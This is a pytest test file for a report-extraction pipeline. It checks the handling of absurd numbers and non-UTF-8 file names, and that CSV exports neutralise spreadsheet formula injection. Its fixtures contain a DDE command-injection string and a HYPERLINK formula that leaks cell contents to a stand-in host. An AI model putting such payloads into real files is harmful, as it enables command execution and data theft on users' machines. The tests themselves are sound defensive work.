"""Issue 17, hostile files from portals: absurd numbers, file names that are not UTF-8, and
text that a spreadsheet would run as a formula. None may take down a run; each is read,
flagged or neutralised where it is."""

from __future__ import annotations

import csv
import json
import os
import re
from dataclasses import dataclass
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from sqlalchemy import select

from conftest import run_cli
from extractors.pipeline import finish, first_pass
from extractors.result import DocumentResult, FieldProvenance, os_text
from extractors.readers.text_dump import parse_text_dump
from extractors.synth import generate
from extractors.template import extract_fields
from extractors.template.prose import prose_figures
from extractors.template.values import MAX_DIGITS, parse_value
from flows import export, outputs, store
from flows.harvest.raw_store import RawStore
from flows.review.queue import BadValue
from flows.review.queue import parse_value as typed_value

# A synthetic 2021 report as a text dump: its first figure of table 三 (new applications from
# natural persons, 553), its fees (0 万元) and a prose total (703) are replaced below.
REPORT = generate(3, "2021", "txt").data.decode("utf-8")
NEW_NATURAL = "\t553\n\t150"
FEES = "\t行政事业性收费\n\t0"
PROSE_TOTAL = "申请703宗"


def _with(old: str, new: str) -> str:
    assert REPORT.count(old) >= 1
    return REPORT.replace(old, new, 1)


def _extract(tmp_path, text: str):
    path = tmp_path / "report.txt"
    path.write_text(text, encoding="utf-8")
    return finish(first_pass(path))


# -- absurd numbers ---------------------------------------------------------------------

@pytest.mark.parametrize("digits", [30, 400, 5000])
def test_a_count_too_large_for_the_dataset_is_a_flagged_garbled_cell(tmp_path, digits):
    result = _extract(tmp_path, _with(NEW_NATURAL, f"\t{'9' * digits}\n\t150"))
    key = "requests.new.natural"
    assert result.status == "ok"
    assert result.fields[key] is None and result.confidence[key] < 0.7
    assert result.provenance[key].note == f"a count of {digits} digits: the dataset holds at most {MAX_DIGITS}"
    assert key in {item.field for item in result.review}
    # the row kept its shape: the cell beside it is read where it was
    assert result.fields["requests.new.commercial"] == 150
    result.model_dump_json()


@pytest.mark.parametrize("printed", ["9" * 400, "9" * 5000 + "元", "99999999999999亿元"])
def test_an_amount_too_large_for_the_dataset_is_flagged_not_infinite(tmp_path, printed):
    result = _extract(tmp_path, _with(FEES, f"\t行政事业性收费\n\t{printed}"))
    key = "active.fees.amount"
    assert result.status == "ok" and result.fields[key] is None
    assert "the dataset holds at most" in result.provenance[key].note
    assert key in {item.field for item in result.review}


def test_the_largest_figure_the_dataset_holds_is_read():
    assert parse_value("9" * MAX_DIGITS).value == 10 ** MAX_DIGITS - 1
    assert parse_value("-" + "9" * MAX_DIGITS).value == -(10 ** MAX_DIGITS - 1)
    assert parse_value("9" * (MAX_DIGITS + 1)).status == "garbled"
    assert parse_value("252（减" + "1" * 16 + "）", "change").status == "garbled"
    assert parse_value("1" * 16 + "（减18）", "change").status == "garbled"


@pytest.mark.parametrize("digits", [400, 5000])
def test_a_figure_too_long_in_the_prose_is_not_read_and_the_report_is(tmp_path, digits):
    result = _extract(tmp_path, _with(PROSE_TOTAL, f"申请{'9' * digits}宗"))
    assert result.status == "ok"
    assert not any(r.rule == "X1" and "requests.new.total" in r.fields and r.status == "fail"
                   for r in result.rules)
    assert prose_figures([f"共收到政府信息公开申请{'9' * digits}件，其中予以公开8件。"], "2021") == []


def test_unicode_digits_beside_a_split_number_do_not_crash_the_table():
    # '①'.isdigit() is true and int() refuses it: a row of eight "digit" cells where seven
    # are expected went into the split-number repair with it.
    title = "某某县人民政府\n2021年政府信息公开工作年度报告\n一、总体情况\n本年度，我县……。\n"
    row = "\t一、本年新收政府信息公开申请数量\n\t①\n\t2\n\t0\n\t0\n\t0\n\t0\n\t0\n\t12"
    doc = parse_text_dump(title + "三、收到和处理政府信息公开申请情况\n" + row + "\n\n\t（七）总计\n" + "\t0\n" * 7)
    readings = extract_fields(doc).readings
    assert readings["requests.new.total"].value == 12


def test_numbers_the_dataset_cannot_hold_from_elsewhere_are_stored_null_and_flagged(tmp_path):
    # An LLM's answer or a JSON of an earlier version may hold what the template refuses.
    values = {"requests.new.natural": 10 ** 29, "requests.new.commercial": 10 ** 400,
              "active.fees.amount": float("inf"), "requests.new.total": 7}
    result = DocumentResult(document="r.txt", sha256="a" * 64, extractor_version="test", template="2021",
                            fields=values, confidence=dict.fromkeys(values, 0.6),
                            provenance={k: FieldProvenance("llm", note="read by the LLM") for k in values})
    engine = store.connect(store.database_url(None, tmp_path))
    store.save_result(engine, result, {}, store.start_run(engine, {}))
    export.export(engine, tmp_path / "dataset")
    rows = {r["key"]: r for r in pq.read_table(tmp_path / "dataset" / "fields.parquet").to_pylist()}
    for key in ("requests.new.natural", "requests.new.commercial", "active.fees.amount"):
        assert rows[key]["value_num"] is None and rows[key]["flagged"], key
    assert rows["requests.new.total"]["value_num"] == 7 and not rows["requests.new.total"]["flagged"]
    wide = pq.read_table(tmp_path / "dataset" / "reports.parquet").to_pylist()[0]
    assert wide["requests.new.natural"] is None and wide["requests.new.total"] == 7
    with engine.connect() as conn:
        reasons = dict(conn.execute(select(store.review_items.c.field, store.review_items.c.reason)).tuples().all())
        note = conn.execute(select(store.fields.c.note).where(store.fields.c.key == "requests.new.natural")).scalar()
    assert set(reasons) == {"requests.new.natural", "requests.new.commercial", "active.fees.amount"}
    assert "cannot hold" in reasons["requests.new.natural"] and note.startswith("read by the LLM; ")
    engine.dispose()


def test_a_reviewer_cannot_type_a_number_the_dataset_cannot_hold():
    assert typed_value("requests.new.total", "9" * MAX_DIGITS) == 10 ** MAX_DIGITS - 1
    for text in ("9" * 30, "1e20"):
        with pytest.raises(BadValue, match="more than the dataset holds"):
            typed_value("requests.new.total", text)
    with pytest.raises(BadValue):
        typed_value("active.fees.amount", "9" * 30)



# -- file names that are not UTF-8, text a spreadsheet would run --------------------------

GBK_NAME = "北京市年报.txt".encode("gbk")  # not UTF-8: os.fsdecode keeps its bytes as surrogates
GBK_EMPTY = "你好.pdf".encode("gbk")
BYTES_NAME = b"bad\xff\xfe.txt"  # neither UTF-8 nor GB18030
FORMULA_NAME = "=cmd|' C calc'!A0.txt"
FORMULA_AGENCY = "=cmd|' /C calc'!A0南丰市河东区人民政府"
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
# 2019 report: agency on the line above the title, coercion's change printed as -10
REPORT_2019 = generate(4, "2019", "txt").data.decode("utf-8")


def _hostile_2019() -> str:
    text = REPORT_2019.replace("南丰市河东区人民政府\n2019年", FORMULA_AGENCY + "\n2019年", 1)
    text = text.replace("2019年，南丰市河东区人民政府积极回应", FORMULA_TEXT + "2019年，南丰市河东区人民政府积极回应", 1)
    text = text.replace("\t13\n\t2\n\t0\n", f"\t{'9' * 30}\n\t2\n\t0\n", 1)
    assert text.count(FORMULA_TEXT) == 1 and "9" * 30 in text and FORMULA_AGENCY in text
    return text


def _dangerous(cell: str) -> bool:
    """What Excel or WPS would run as a formula: = + - @ tab or CR first, not a number."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", cell)


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:  # the dataset's CSVs have a BOM
        return list(csv.reader(fh))


@dataclass
class Hostile:
    inputs: Path
    out: Path
    code: int
    summary: dict
    export_code: int


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Hostile:
    """One `nianbao extract` over a good report, the same report under a GBK name and under
    its UTF-8 name, a GBK-named empty file, a name that no encoding reads, and a report whose
    file name, agency and text start formulas (with a 30-digit count); then `review export`."""
    inputs = tmp_path_factory.mktemp("hostile")
    other = generate(3, "2021", "txt").data
    (inputs / "good.txt").write_bytes(other)
    (inputs / "北京市年报.txt").write_bytes(REPORT_2019.encode("utf-8"))
    folder = os.fsencode(inputs)
    with open(os.path.join(folder, GBK_NAME), "wb") as fh:
        fh.write(REPORT_2019.encode("utf-8") + b"\n")
    open(os.path.join(folder, GBK_EMPTY), "wb").close()
    with open(os.path.join(folder, BYTES_NAME), "wb") as fh:
        fh.write(other + b"\n")
    (inputs / FORMULA_NAME).write_text(_hostile_2019(), encoding="utf-8")
    out = inputs / "out"
    code, _ = run_cli(["extract", str(inputs), "--out", str(out), "--workers", "1"])
    summary = json.loads((out / outputs.SUMMARY).read_text(encoding="utf-8"))
    export_code, _ = run_cli(["review", "export", str(out)])
    return Hostile(inputs, out, code, summary, export_code)


def test_every_file_whatever_its_name_gets_its_record(hostile):
    assert hostile.code == 0
    # GBK names decoded, the unreadable one escaped
    names = sorted(Path(f["path"]).name for f in hostile.summary["files"])
    assert names == sorted([FORMULA_NAME, r"bad\xff\xfe.txt", "good.txt", "你好.pdf",
                            "北京市年报.txt", "北京市年报.txt"])
    by_json = {f["json"]: f for f in hostile.summary["files"]}
    assert len(by_json) == 6
    # the GBK name and the UTF-8 one read the same: both kept, told apart by a suffix
    assert len([n for n in by_json if n.startswith("北京市年报.txt~")]) == 2
    for name, entry in by_json.items():
        record = json.loads((hostile.out / name).read_text(encoding="utf-8"))
        assert record["document"] == Path(entry["path"]).name
        if record["document"] == "你好.pdf":
            assert record["status"] == "error" and record["error"].startswith("你好.pdf: ")
        else:
            assert record["status"] == "ok", name
    assert by_json[r"bad\xff\xfe.txt.json"]["status"] == "ok"


def test_no_csv_cell_starts_a_formula_and_negative_numbers_stay_numbers(hostile):
    assert hostile.export_code == 0
    for path in (hostile.out / outputs.FIELDS_CSV, hostile.out / outputs.REVIEW_CSV,
                 hostile.out / "export" / "fields.csv", hostile.out / "export" / "reports.csv"):
        cells = _csv_cells(path)
        assert not [c for row in cells for c in row if _dangerous(c)], path.name
    fields = {(r["document"], r["key"]): r["value_num"] or r["value_text"]
              for r in csv.DictReader(open(hostile.out / outputs.FIELDS_CSV, encoding="utf-8-sig"))}
    doc = "'" + FORMULA_NAME
    assert fields[(doc, "meta.agency")] == "'" + FORMULA_AGENCY.replace(" ", "").replace("'", "")
    assert fields[(doc, "text.overview")].startswith("'" + FORMULA_TEXT)
    assert fields[(doc, "active.coercion.change")] == "-10"  # a number, not a formula
    wide = {r["document"]: r for r in csv.DictReader(open(hostile.out / "export" / "reports.csv", encoding="utf-8-sig"))}
    assert wide[doc]["agency"].startswith("'=cmd") and wide[doc]["active.coercion.change"] == "-10"


def test_parquet_keeps_the_raw_text_and_holds_the_30_digit_count_as_a_flagged_null(hostile):
    rows = pq.read_table(hostile.out / "export" / "fields.parquet").to_pylist()
    mine = {r["key"]: r for r in rows if r["document"] == FORMULA_NAME}
    assert mine["meta.agency"]["value_text"].startswith("=cmd")
    assert mine["text.overview"]["value_text"].startswith(FORMULA_TEXT)
    assert mine["requests.new.natural"]["value_num"] is None and mine["requests.new.natural"]["flagged"]
    assert mine["active.coercion.change"]["value_num"] == -10
    assert {r["document"] for r in rows} >= {r"bad\xff\xfe.txt", "北京市年报.txt"}  # the empty file has no hash


def test_the_manifest_of_the_raw_store_is_spreadsheet_safe(tmp_path):
    raw = RawStore(tmp_path / "raw")
    raw.record(url="https://portal.example/=1", final_url=FORMULA_TEXT, status="error", agency=FORMULA_AGENCY,
               year=2020, source="@SUM(A1)", error="-1+cmd", size=-3)
    rows = _csv_cells(raw.write_csv())
    raw.close()
    assert not [c for row in rows for c in row if _dangerous(c)]
    row = dict(zip(rows[0], rows[1]))
    assert (row["final_url"], row["source"], row["error"], row["size"]) == (
        "'" + FORMULA_TEXT, "'@SUM(A1)", "'-1+cmd", "-3")


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+86 10 1234", "'+86 10 1234"), ("-", "'-"), ("@x", "'@x"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), (-18, "-18"), ("-18", "-18"), ("+8", "+8"), (-0.5, "-0.5"), (None, ""),
    ("南丰市", "南丰市"), ("a=1", "a=1"), (os.fsdecode(GBK_NAME), "北京市年报.txt"),
])
def test_spreadsheet_cell(value, cell):
    assert outputs.spreadsheet_cell(value) == cell


def test_os_text_decodes_gbk_names_and_escapes_what_no_encoding_reads():
    assert os_text(os.fsdecode(GBK_NAME)) == "北京市年报.txt"
    assert os_text(os.fsdecode(BYTES_NAME)) == r"bad\xff\xfe.txt"
    # a path: UTF-8 folders stay as they are, the GBK name beside them is decoded
    assert os_text(os.fsdecode("/数据/年报/".encode() + GBK_NAME)) == "/数据/年报/北京市年报.txt"
    assert os_text("\ud800x") == r"\ud800x"
    assert os_text("报告.pdf") == "报告.pdf"
